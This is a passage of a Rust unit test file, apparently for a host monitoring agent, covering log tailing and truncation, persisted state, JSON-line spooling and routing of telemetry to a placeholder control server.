    assert_eq!(resolve(None, None, Some("box\n".into())), "box");
    assert_eq!(resolve(None, None, None), "unknown-host");
    let cfg = Config {
        host_id: "web-1".into(),
        ..Config::default()
    };
    assert_eq!(agent_host_id(&cfg, "m".into()), "web-1");
    assert_eq!(agent_host_id(&Config::default(), "m".into()), "m");
}

#[test]
fn reads_only_new_lines() {
    let mut t = TailState::new();
    let file = "line1\nline2\n";
    let from = t.begin(Some(file.len() as u64)).unwrap() as usize;
    let first = t.end(file.len() as u64, Some(file[from..].to_string()));
    assert_eq!(first, vec!["line1", "line2"]);
    let file = "line1\nline2\nline3\n";
    let from = t.begin(Some(file.len() as u64)).unwrap() as usize;
    let second = t.end(file.len() as u64, Some(file[from..].to_string()));
    assert_eq!(second, vec!["line3"], "only appended lines");
    let from = t.begin(Some(file.len() as u64)).unwrap() as usize;
    assert!(
        t.end(file.len() as u64, Some(file[from..].to_string()))
            .is_empty(),
        "no changes → nothing"
    );
}

#[test]
fn restarts_on_truncation() {
    let mut t = TailState::new();
    let file = "aaaa\n";
    let from = t.begin(Some(file.len() as u64)).unwrap() as usize;
    assert_eq!(
        t.end(file.len() as u64, Some(file[from..].to_string()))
            .len(),
        1
    );
    let file = "b\n"; // truncated (shorter)
    let from = t.begin(Some(file.len() as u64)).unwrap() as usize;
    let lines = t.end(file.len() as u64, Some(file[from..].to_string()));
    assert_eq!(
        lines,
        vec!["b"],
        "restart from the beginning after truncation"
    );
}

#[test]
fn missing_file_is_empty() {
    let mut t = TailState::new();
    assert!(t.begin(None).is_none());
}

#[test]
fn an_unreadable_log_is_read_again() {
    let mut t = TailState::new();
    assert_eq!(t.begin(Some(10)), Some(0));
    assert!(t.end(10, None).is_empty());
    assert_eq!(t.begin(Some(10)), Some(0));
}

#[test]
fn saved_state_is_taken_up_or_started_afresh() {
    let saved = PersistedState {
        seen_ips: vec!["1.2.3.4".into()],
        journal_cursor_ms: 123,
        last_cert_scan: 456,
        known_exes: vec!["/usr/bin/x".into()],
    };
    let loaded = PersistedState::loaded(Some(saved));
    assert_eq!(loaded.seen_ips, vec!["1.2.3.4"]);
    assert_eq!(loaded.journal_cursor_ms, 123);
    let fresh = PersistedState::loaded(None);
    assert!(fresh.seen_ips.is_empty());
    assert_eq!(fresh.journal_cursor_ms, 0);
    assert_eq!(fresh.last_cert_scan, 0);
    assert!(fresh.known_exes.is_empty());
}

#[test]
fn spooled_lines_come_back_in_order() {
    let lines = vec!["{\"ts\":1}".to_string(), "{\"ts\":2}".to_string()];
    let file = Spool::frame(&lines);
    assert_eq!(file, "{\"ts\":1}\n{\"ts\":2}\n");
    assert_eq!(Spool::unframe(&file), lines);
    let order = Spool::replay_order(&vec![
        "spool-2.jsonl".to_string(),
        "notes.txt".to_string(),
        "spool-1.jsonl".to_string(),
    ]);
    assert!(order.len() >= 2);
    assert!(order[0] < order[1]);
}

#[test]
fn requests_go_to_their_routes() {
    assert_eq!(
        route("http://ctl.example.com/", "/v1/telemetry"),
        "http://ctl.example.com/v1/telemetry"
    );
    assert_eq!(bearer("secret-token"), "Bearer secret-token");
    assert!(accepted(200).is_ok());
    assert!(accepted(299).is_ok());
    assert_eq!(accepted(503).unwrap_err(), "server responded 503");
    let cfg = Config {
        server_url: "http://ctl".into(),
        ..Config::default()
    };
    let plan = ship_plan(&cfg, 1, 30);
    assert!(plan.post_events && plan.heartbeat);
    let plan = ship_plan(&cfg, 0, 29);
    assert!(!plan.post_events && !plan.heartbeat);
    let plan = ship_plan(&Config::default(), 5, 100);
    assert!(!plan.post_events && !plan.heartbeat, "nowhere to ship to");
}
